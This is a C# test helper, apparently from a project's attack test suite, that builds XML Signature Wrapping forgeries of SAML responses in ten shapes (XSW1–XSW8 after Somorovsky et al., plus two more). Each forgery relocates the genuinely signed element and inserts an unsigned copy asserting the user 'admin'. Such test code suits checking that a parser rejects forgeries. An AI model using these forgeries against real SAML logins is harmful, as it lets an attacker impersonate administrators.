using System.Xml;

namespace Livehouse.Tests.Attacks;

/// <summary>
/// The shapes of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., USENIX Security 2012), XSW1 to XSW8, and two more: the signed element is
/// kept somewhere, so that its signature holds, and a forged one for <c>admin</c> stands where a careless reader looks.
/// </summary>
internal static class SignatureWrapping
{
    private const string SignatureSpace = "http://www.w3.org/2000/09/xmldsig#";

    public static void Apply(XmlDocument document, int shape)
    {
        var response = document.DocumentElement!;
        var assertion = (XmlElement)document.GetElementsByTagName("saml:Assertion")[0]!;
        var signature = (XmlElement)document.GetElementsByTagName("Signature", SignatureSpace)[0]!;
        if (shape is 1 or 2)
        {
            WrapResponse(document, response, signature, shape);
            return;
        }

        var forged = Forged(assertion, shape == 9 ? "_assertion" : "_forged");
        switch (shape)
        {
            case 3 or 9:
                response.InsertBefore(forged, assertion);
                break;
            case 4:
                response.ReplaceChild(forged, assertion);
                forged.AppendChild(assertion);
                break;
            case 5:
                forged.InsertAfter(signature.ParentNode!.RemoveChild(signature), forged.FirstChild);
                response.InsertBefore(forged, assertion);
                break;
            case 6:
                assertion.RemoveChild(signature);
                response.ReplaceChild(forged, assertion);
                forged.InsertAfter(signature, forged.FirstChild);
                signature.AppendChild(assertion);
                break;
            case 7:
                var extensions = document.CreateElement("samlp", "Extensions", response.NamespaceURI);
                extensions.AppendChild(forged);
                response.InsertAfter(extensions, response.FirstChild);
                break;
            case 8:
                assertion.RemoveChild(signature);
                response.ReplaceChild(forged, assertion);
                forged.InsertAfter(signature, forged.FirstChild);
                signature.AppendChild(document.CreateElement("Object", SignatureSpace))!.AppendChild(assertion);
                break;
            case 10:
                // The signature of the assertion, which is there unchanged, as if it were the response's.
                response.InsertAfter(assertion.RemoveChild(signature), response.FirstChild);
                break;
            default:
                throw new ArgumentOutOfRangeException(nameof(shape));
        }
    }

    private static void WrapResponse(XmlDocument document, XmlElement response, XmlElement signature, int shape)
    {
        var forged = (XmlElement)response.CloneNode(deep: true);
        forged.SetAttribute("ID", "_forged");
        forged.GetElementsByTagName("saml:NameID")[0]!.InnerText = "admin";
        forged.RemoveChild(forged.GetElementsByTagName("Signature", SignatureSpace)[0]!);
        response.RemoveChild(signature);
        document.ReplaceChild(forged, response);
        forged.InsertAfter(signature, forged.FirstChild);
        if (shape == 1) signature.AppendChild(response);
        else forged.InsertAfter(response, signature);
    }

    private static XmlElement Forged(XmlElement assertion, string id)
    {
        var forged = (XmlElement)assertion.CloneNode(deep: true);
        forged.SetAttribute("ID", id);
        forged.GetElementsByTagName("saml:NameID")[0]!.InnerText = "admin";
        forged.RemoveChild(forged.GetElementsByTagName("Signature", SignatureSpace)[0]!);
        return forged;
    }
}
